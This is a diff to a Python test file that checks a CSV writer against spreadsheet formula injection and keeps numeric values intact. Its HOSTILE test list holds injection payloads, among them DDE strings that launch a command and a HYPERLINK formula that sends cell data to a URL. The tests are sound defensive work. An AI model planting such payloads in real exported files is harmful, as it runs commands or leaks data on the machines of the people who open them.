@@ -1,14 +1,18 @@
+import csv
 import json
 import os
+import re
 import subprocess
 import sys
 from pathlib import Path
 
+import numpy as np
 import pytest
 
 from stages.core.errors import InputError
 from stages.core.files import (
     digest,
+    no_formula,
     read_json,
     remove,
     significant,
@@ -82,6 +86,44 @@ def test_a_failed_folder_leaves_the_old_one(tmp_path: Path) -> None:
     with pytest.raises(RuntimeError), whole_folder(path) as temporary:
         raise RuntimeError
     assert [p.name for p in path.iterdir()] == ["a"]
+
+
+HOSTILE = [
+    "=cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "\uff1d1+1",
+    '=HYPERLINK("http://example.org?"&A1)',
+    "-",
+    "=",
+    "+1-555-0100",
+]
+
+
+@pytest.mark.parametrize("word", HOSTILE)
+def test_no_cell_is_a_formula(tmp_path: Path, word: str) -> None:
+    write_table(tmp_path / "a.csv", [{word: word, "b": -0.5}, {word: "White", "b": word}], [word, "b"])
+    with (tmp_path / "a.csv").open(newline="") as file:
+        shown = f"'{word}".replace("\r", "\n")
+        assert list(csv.reader(file)) == [[shown, "b"], [shown, "-0.5"], ["White", shown]]
+
+
+@pytest.mark.parametrize("number", [-1, -0.5, np.float32(-0.5), "-1", "-0.25", "+3", "-1e-05", "-inf", "", None, "a=b"])
+def test_numbers_stay_numbers(tmp_path: Path, number: object) -> None:
+    assert no_formula(number) == number
+    write_table(tmp_path / "a.csv", [{"a": number, "b": 1}], ["a", "b"])
+    assert (tmp_path / "a.csv").read_text() == f"a,b\n{'' if number is None else number},1\n"
+
+
+def test_tables_are_written_in_one_place() -> None:
+    folders = (ROOT / name for name in ("stages", "serving", "tools"))
+    sources = [path for folder in folders for path in folder.rglob("*.py")]
+    writers = [path for path in sources if re.search(r"csv\.(Dict)?[wW]riter", path.read_text())]
+    assert [path.relative_to(ROOT).as_posix() for path in writers] == ["stages/core/files.py"]
 
 
 def test_json_is_sorted_and_refuses_nan(tmp_path: Path) -> None:
